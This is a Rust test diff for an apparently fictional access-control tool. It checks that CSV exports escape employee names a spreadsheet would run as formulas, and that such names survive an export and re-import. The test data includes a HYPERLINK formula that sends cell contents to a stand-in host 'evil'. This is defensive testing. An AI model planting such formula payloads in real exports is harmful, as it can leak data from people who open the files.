@@ -8,6 +8,7 @@ use std::sync::Arc;
 
 use rolecall_model::Catalog;
 use rolecall_server::ops::orgs::{self, NewOrg};
+use rolecall_server::ops::people;
 use rolecall_server::{Principal, Service};
 use rolecall_store::Store;
 
@@ -87,6 +88,45 @@ impl Database {
             args.extend(["--org", org]);
         }
         rolecall(&args)
+    }
+
+    /// Adds employees to acme through the service, as the API would, with
+    /// these first and last names; their ids are `emp-0`, `emp-1`...
+    fn add_employees(&self, names: &[(&str, &str)]) {
+        let runtime = tokio::runtime::Runtime::new().unwrap();
+        runtime.block_on(async {
+            let service = open(&self.url).await;
+            for (i, (first, last)) in names.iter().enumerate() {
+                let employee = people::NewEmployee {
+                    id: Some(format!("emp-{i}")),
+                    first_name: (*first).to_owned(),
+                    last_name: (*last).to_owned(),
+                    email: format!("emp{i}@acme.test"),
+                };
+                people::create_employee(&service, &Principal::Cli, "test", "acme", employee)
+                    .await
+                    .unwrap();
+            }
+            service.store().close().await;
+        });
+    }
+
+    /// Every employee's id, first and last name, by id.
+    fn names(&self) -> Vec<(String, String, String)> {
+        let runtime = tokio::runtime::Runtime::new().unwrap();
+        runtime.block_on(async {
+            let service = open(&self.url).await;
+            let mut names: Vec<(String, String, String)> = service
+                .live()
+                .model
+                .employees
+                .values()
+                .map(|e| (e.id.clone(), e.first_name.clone(), e.last_name.clone()))
+                .collect();
+            service.store().close().await;
+            names.sort();
+            names
+        })
     }
 
     fn check(&self, user: &str, permission: &str, org: &str) -> Output {
@@ -339,6 +379,67 @@ fn export_then_import_into_an_empty_database_gives_the_same_export() {
             "beta,emp-bob"
         ]
     );
+}
+
+/// Names an insider could set, which a spreadsheet would run as formulas
+/// (and some that only look like the quoted form of one).
+const FORMULAS: [(&str, &str); 4] = [
+    ("=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+SUM(A1:A9)"),
+    ("-1", "@cmd"),
+    ("'=already quoted", "''+twice"),
+    ("'abc", "O'Brien"),
+];
+
+#[test]
+fn an_export_never_writes_a_cell_a_spreadsheet_would_run() {
+    // Arrange
+    let db = Database::new();
+    db.add_employees(&FORMULAS);
+
+    // Act
+    let output = db.export(None);
+
+    // Assert
+    assert_eq!(output.code, 0, "{}", output.err);
+    let mut reader = csv::Reader::from_reader(output.out.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let name = |id: &str| -> (String, String) {
+        let row = rows.iter().find(|r| &r[1] == id).unwrap();
+        (row[2].to_owned(), row[3].to_owned())
+    };
+    assert_eq!(
+        name("emp-0"),
+        (
+            "'=HYPERLINK(\"http://evil/?\"&A1,\"click\")".to_owned(),
+            "'+SUM(A1:A9)".to_owned()
+        )
+    );
+    assert_eq!(name("emp-1"), ("'-1".to_owned(), "'@cmd".to_owned()));
+    assert_eq!(
+        name("emp-2"),
+        ("''=already quoted".to_owned(), "'''+twice".to_owned())
+    );
+    assert_eq!(name("emp-3"), ("'abc".to_owned(), "O'Brien".to_owned()));
+}
+
+#[test]
+fn names_that_look_like_formulas_survive_export_then_import() {
+    // Arrange
+    let first = Database::new();
+    first.add_employees(&FORMULAS);
+    let exported = first.export(None);
+    assert_eq!(exported.code, 0, "{}", exported.err);
+    let second = Database::new();
+    let path = second.dir.path().join("exported.csv");
+    std::fs::write(&path, &exported.out).unwrap();
+
+    // Act
+    let imported = second.import(&path);
+
+    // Assert
+    assert_eq!(imported.code, 0, "{}", imported.err);
+    assert_eq!(second.names(), first.names());
+    assert_eq!(second.export(None).out, exported.out);
 }
 
 #[test]
